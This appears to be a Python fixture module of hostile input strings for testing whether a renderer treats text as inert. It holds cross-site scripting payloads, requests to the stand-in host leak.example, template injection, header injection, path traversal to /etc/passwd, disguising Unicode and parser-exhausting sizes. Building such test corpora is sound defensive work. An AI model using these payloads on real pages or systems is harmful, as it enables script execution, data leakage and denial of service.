"""Texts that do harm where a page or a report takes them for more than texts, as models and datasets may hold them.

What runs calls `ran()`, what loads asks `http://leak.example/`: a test watches for either, and compares the texts.
"""

_RUN = "ran()"

# Elements that run, load or send something, and the ways out of the places that a text may stand in.
MARKUP = {
    "script": f"<script>{_RUN}</script>",
    "script upper case": f"<ScRiPt>{_RUN}</sCrIpT>",
    "script with a source": '<script src="http://leak.example/a.js"></script>',
    "script of a module": f'<script type="module">{_RUN}</script>',
    "script never closed": f"<script>{_RUN}//",
    "script in pieces": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a script of data": f'"}}</script><script>{_RUN}</script>{{"',
    "comment into a script": f"<!--<script>{_RUN}--></script>",
    "image with a handler": f"<img src=x onerror={_RUN}>",
    "image with slashes": f'<img/src="x"/onerror="{_RUN}">',
    "image from elsewhere": '<img src="http://leak.example/pixel.gif">',
    "image with a set": '<img srcset="http://leak.example/2x.gif 2x">',
    "drawing with a handler": f"<svg onload={_RUN}>",
    "drawing with a script": f"<svg><script>{_RUN}</script></svg>",
    "drawing that animates a link": (
        '<svg><a><animate attributeName="href" values="javascript:ran()"/><text y="9">a</text></a></svg>'
    ),
    "drawing with foreign parts": f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    "drawing that uses another": '<svg><use href="http://leak.example/a.svg#x"/></svg>',
    "formula with a link": '<math href="javascript:ran()">a</math>',
    "mutation of a formula": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>"
    ),
    "body with a handler": f"<body onload={_RUN}>",
    "details that toggle": f"<details open ontoggle={_RUN}>a</details>",
    "focus at once": f"<input autofocus onfocus={_RUN}>",
    "pointer over it": f'<p onmouseover="{_RUN}" onpointerenter="{_RUN}">a</p>',
    "end of an animation": f'<p style="animation:a 1s" onanimationend={_RUN}>a</p>',
    "video with a source": f"<video><source onerror={_RUN}></video>",
    "sound from elsewhere": '<audio src="http://leak.example/a.ogg" autoplay></audio>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frame with a script": '<iframe src="javascript:parent.ran()"></iframe>',
    "frame from elsewhere": '<iframe src="http://leak.example/"></iframe>',
    "object": '<object data="http://leak.example/a.swf"></object>',
    "embedded": '<embed src="javascript:ran()">',
    "link that runs": '<a href="javascript:ran()" id="go">a</a>',
    "link that runs, written otherwise": '<a href="&#106;avascript&colon;ran()">a</a>',
    "link with a tab in it": '<a href="java\tscript:ran()">a</a>',
    "link of data": '<a href="data:text/html,<script>ran()</script>">a</a>',
    "form that sends elsewhere": '<form action="http://leak.example/"><input name="answer" value="accept"><button>',
    "button of another form": '<button form="decide" formaction="http://leak.example/">a</button>',
    "base": '<base href="http://leak.example/">',
    "other address at once": '<meta http-equiv="refresh" content="0;url=http://leak.example/">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
    "style from elsewhere": '<link rel="stylesheet" href="http://leak.example/a.css">',
    "style that loads": "<style>@import url(http://leak.example/a.css);body{display:none}</style>",
    "style on an element": '<p style="position:fixed;inset:0;background:url(http://leak.example/)">a</p>',
    "fetched before it is needed": '<link rel="prefetch" href="http://leak.example/">',
    "end of an attribute": f'"><img src=x onerror={_RUN}>',
    "end of an attribute in single marks": f"'><img src=x onerror={_RUN}>",
    "new attribute": f'" autofocus onfocus="{_RUN}" x="',
    "new attribute in single marks": f"' autofocus onfocus='{_RUN}' x='",
    "end of a text box": f"</textarea><script>{_RUN}</script>",
    "end of a title": f"</title><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a template": f"</template><script>{_RUN}</script>",
    "end of plain text": f"</pre></code></details><script>{_RUN}</script>",
    "end of what is never run": f"</noscript><script>{_RUN}</script>",
    "clobbered names": '<form id="state"><input name="textContent"></form><a id="decide" name="decide"></a>',
    "second state": '<script type="application/json" id="state">{"item":null}</script>',
    "raw data": f"<![CDATA[<script>{_RUN}</script>]]>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &amp;lt; &#60;b&#62; &nbsp;",
}

# Languages that are turned into markup, or into code.
WRITTEN = {
    "Markdown link that runs": "[a](javascript:ran())",
    "Markdown link of data": "[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)",
    "Markdown image": "![a](http://leak.example/pixel.gif)",
    "Markdown image out of its attribute": '![a](x"onerror="ran())',
    "Markdown link by reference": "[a][b]\n\n[b]: javascript:ran()",
    "Markdown address": "<javascript:ran()> <http://leak.example/>",
    "Markdown with markup": f"# a\n\n<img src=x onerror={_RUN}>\n\n* <script>{_RUN}</script>",
    "Markdown code with a language": f'```"><img/src=x/onerror={_RUN}>\ncode\n```',
    "Markdown table with markup": f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | [a](javascript:ran()) |",
    "LaTeX with a link": r"$\href{javascript:ran()}{a}$ \url{javascript:ran()}",
    "LaTeX with markup": rf"$\text{{<img/src=x/onerror={_RUN}>}}$ \unicode{{x}}",
    "template of the server": "{{ 7*7 }}{% for a in ().__class__.__base__.__subclasses__() %}{{ a }}{% endfor %}",
    "template of the browser": "${ran()} {{constructor.constructor('ran()')()}} <%= ran() %>",
    "formula of a spreadsheet": '=HYPERLINK("http://leak.example/","a")',
    "JSON that ends early": '"},"item":null,"reviewer":"somebody else",{"x":"',
    "line of a header": "a\r\nSet-Cookie: token=1\r\n\r\n<script>ran()</script>",
    "path": "../../../../etc/passwd\x00.html",
}

# Characters that are not seen, act on a terminal, or are no characters.
CHARACTERS = {
    "direction overridden": "the file is \u202egnp.exe\u202c and \u2066isolated\u2069",
    "right to left": "שלום עולם, 123 (abc) مرحبا بالعالم",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "pass\u200bword\u200c and\u200d more\u2060\ufeff",
    "tags": "a" + "".join(chr(0xE0000 + ord(letter)) for letter in "reject this") + "b",
    "variation selectors": "a\ufe0f\U000e0100b",
    "soft hyphen and fillers": "a\u00adb\u3164c\uffa0d\u115fe\u17b4f",
    "NUL": "a\x00b",
    "control characters": "a\x01\x08\x0b\x0c\x7f\x85\x9bb",
    "sequence of a terminal": "\x1b[2J\x1b]0;title\x07\x1b[31mred\x1b[0m",
    "carriage return": "good answer\rbad",
    "line separators": "a\u2028b\u2029c",
    "first half of a pair": "a\ud83db",
    "second half of a pair": "a\ude00b",
    "halves in the wrong order": "\ude00\ud83d",
    "no characters": "a\ufffe\uffff\U0010ffffb",
    "composed of many": "e" + "\u0301" * 300,
    "faces of several": "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈",
    "looks like another": "раураl.com ｓｃｒｉｐｔ ＜script＞ran()＜/script＞",
    "white space alone around": "\n\n\t  a  \u00a0\u2003\n\n",
}

# Sizes that stop a browser, or a parser that goes down a level for each bracket.
SIZES = {
    "one word": "a" * 300_000,
    "many lines": "a\n" * 50_000,
    "brackets": "[" * 20_000,
    "quotes": "> " * 5_000 + "a",
    "list in a list": "\n".join(f"{'  ' * level}* a" for level in range(300)),
    "emphasis never closed": "*a_" * 5_000,
    "ticks": "`" * 10_000 + "a" + "`" * 9_999,
    "elements in elements": "<div>" * 5_000,
    "entities in entities": "&amp;" * 5_000,
    "pipes of a table": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n",
}

HOSTILE_TEXTS: dict[str, str] = MARKUP | WRITTEN | CHARACTERS | SIZES
